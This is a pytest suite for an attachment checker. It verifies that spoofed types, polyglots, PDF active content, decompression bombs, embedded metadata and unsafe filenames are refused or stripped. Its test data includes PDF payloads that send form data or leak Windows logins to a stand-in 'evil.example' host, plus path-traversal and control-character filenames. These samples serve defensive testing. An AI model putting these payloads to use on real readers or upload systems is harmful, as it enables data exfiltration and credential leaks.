"""What a file is, read from its bytes: spoofed types, polyglots, sizes, names, metadata."""

from __future__ import annotations

import io
import zlib

import pytest
from PIL import ExifTags, Image

from portal.attachments.checks import (
    AttachmentRefused,
    TooLarge,
    UnsupportedType,
    check_file,
    clean_name,
    shown_name,
)
from tests.portal.attachment_files import (
    HTML,
    PDF,
    PDF_WITH_SCRIPT,
    PNG_WITH_HTML,
    POLYGLOT_GIF,
    SVG,
    animated_gif,
    gif_frame_bomb,
    image_bytes,
    jpeg_with_a_second_picture,
    jpeg_with_gps,
    pdf_hiding_a_script_in_an_object_stream,
    pdf_with,
)

MB = 1024 * 1024


def check(data: bytes, name: str = "photo.png", max_bytes: int = 10 * MB, max_pixels: int = 40_000_000):
    return check_file(name, data, max_bytes, max_pixels)


@pytest.mark.parametrize("fmt,content_type", [("JPEG", "image/jpeg"), ("PNG", "image/png"),
                                              ("WEBP", "image/webp"), ("GIF", "image/gif")])
def test_images_are_known_by_their_bytes_whatever_their_name(fmt, content_type):
    checked = check(image_bytes(fmt), name="statement.pdf")  # the name says PDF; the bytes say image
    assert (checked.kind, checked.content_type, checked.width, checked.height) == ("image", content_type, 64, 48)
    assert Image.open(io.BytesIO(checked.data)).format == fmt
    assert Image.open(io.BytesIO(checked.preview)).format == "WEBP"


def test_a_phone_photo_with_a_second_picture_is_a_jpeg_and_keeps_only_the_photo():
    checked = check(jpeg_with_a_second_picture(), name="damage.jpg")
    assert (checked.kind, checked.content_type, (checked.width, checked.height)) == ("image", "image/jpeg", (64, 48))
    kept = Image.open(io.BytesIO(checked.data))
    assert kept.format == "JPEG" and getattr(kept, "n_frames", 1) == 1


def test_a_pdf_is_known_by_its_header_and_trailer():
    checked = check(PDF, name="receipt.png")
    assert (checked.kind, checked.content_type, checked.data, checked.preview) == ("pdf", "application/pdf", PDF, None)


@pytest.mark.parametrize("extra", [
    b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",  # names written with #xx escapes
    b"/Names << /#45mbeddedFiles 5 0 R >>",
    b"/OpenAction << /S /SubmitForm /F (https://evil.example/collect) >>",
    b"/AA << /O << /S /ImportData /F (x.fdf) >> >>",
    b"/OpenAction << /S /GoToR /F (//evil.example/share/x.pdf) >>",  # leaks the reader's Windows login
])
def test_a_pdf_with_active_content_is_refused_however_it_is_spelled(extra):
    with pytest.raises(UnsupportedType):
        check(pdf_with(extra), name="statement.pdf")


def test_a_pdf_cannot_hide_a_script_in_a_compressed_object_stream():
    with pytest.raises(UnsupportedType):
        check(pdf_hiding_a_script_in_an_object_stream(), name="statement.pdf")
    encrypted = pdf_hiding_a_script_in_an_object_stream().replace(b"trailer <<", b"trailer << /Encrypt 9 0 R")
    with pytest.raises(UnsupportedType):  # its object streams are encrypted: unreadable to us, refused
        check(encrypted, name="statement.pdf")


def test_a_pdf_with_compressed_pages_is_kept_and_a_compression_bomb_is_not():
    page = zlib.compress(b"BT /F1 12 Tf 72 712 Td (Refund of order BN-1048231 / JS) Tj ET")
    assert check(pdf_with(b"/OpenAction [3 0 R /Fit]", (page,)), name="ok.pdf").kind == "pdf"
    bomb = zlib.compress(b"\0" * (300 * MB), 9)  # 300 KB that inflate to 300 MB
    with pytest.raises(TooLarge):
        check(pdf_with(streams=(bomb,)), name="bomb.pdf")


@pytest.mark.parametrize("data", [HTML, SVG, POLYGLOT_GIF, b"%PDF-1.4 but never finished", PDF_WITH_SCRIPT,
                                  b"MZ\x90\x00 an executable", image_bytes("BMP"), image_bytes("TIFF")],
                         ids=["html", "svg", "gif-polyglot", "truncated-pdf", "pdf-with-script", "exe", "bmp", "tiff"])
def test_other_content_is_refused_as_unsupported(data):
    with pytest.raises(UnsupportedType) as refused:
        check(data, name="innocent.png")
    assert refused.value.status == 415 and "innocent.png" in str(refused.value)


def test_whatever_follows_an_image_is_not_kept():
    checked = check(PNG_WITH_HTML)
    assert b"<script" not in checked.data and b"<script" not in checked.preview


def test_exif_and_gps_are_stripped_from_the_kept_image_and_its_preview():
    original = jpeg_with_gps()
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(ExifTags.IFD.GPSInfo)  # the test file has them
    checked = check(original, name="damage.jpg")
    for data in (checked.data, checked.preview):
        image = Image.open(io.BytesIO(data))
        assert dict(image.getexif()) == {}
        assert b"Exif" not in data and b"SpyCam" not in data and b"home address" not in data


def test_an_animated_gif_keeps_its_frames():
    checked = check(animated_gif(), name="loop.gif")
    assert Image.open(io.BytesIO(checked.data)).n_frames == 3


def test_empty_and_oversized_files_are_refused():
    with pytest.raises(AttachmentRefused) as empty:
        check(b"")
    assert empty.value.status == 400
    with pytest.raises(TooLarge) as big:
        check(image_bytes("PNG"), max_bytes=100)
    assert big.value.status == 413
    with pytest.raises(TooLarge):  # a small file that decodes to a huge picture (a decompression bomb)
        check(image_bytes("PNG", size=(4000, 4000)), max_pixels=1_000_000)


def test_an_animation_counts_the_pixels_of_every_frame():
    bomb = gif_frame_bomb(size=(400, 400), frames=100)  # 3 KB, 16 million pixels to decode and encode
    assert len(bomb) < 4096
    with pytest.raises(TooLarge) as refused:
        check(bomb, name="bomb.gif", max_pixels=1_000_000)
    assert "frames" in str(refused.value)
    assert check(bomb, max_pixels=20_000_000).content_type == "image/gif"  # within the limit: accepted


@pytest.mark.parametrize("name", ["../../x.png", "..\\..\\x.png", "/etc/passwd", "a/b.png", "x.png\x00.html",
                                  "bad\nname.png", "..", "\u202egnp.exe"])
def test_names_with_paths_or_control_characters_are_refused(name):
    with pytest.raises(AttachmentRefused):
        clean_name(name)


def test_plain_names_are_kept_for_showing_and_long_ones_shortened():
    assert clean_name("  Kontoauszug März.pdf ") == "Kontoauszug März.pdf"
    assert clean_name("") == "attachment" and clean_name(None) == "attachment"
    long = clean_name("a" * 300 + ".jpeg")
    assert len(long) <= 120 and long.endswith(".jpeg")
    assert shown_name("photo.pdf", "image/png") == "photo.png"
    assert shown_name("noext", "application/pdf") == "noext.pdf"
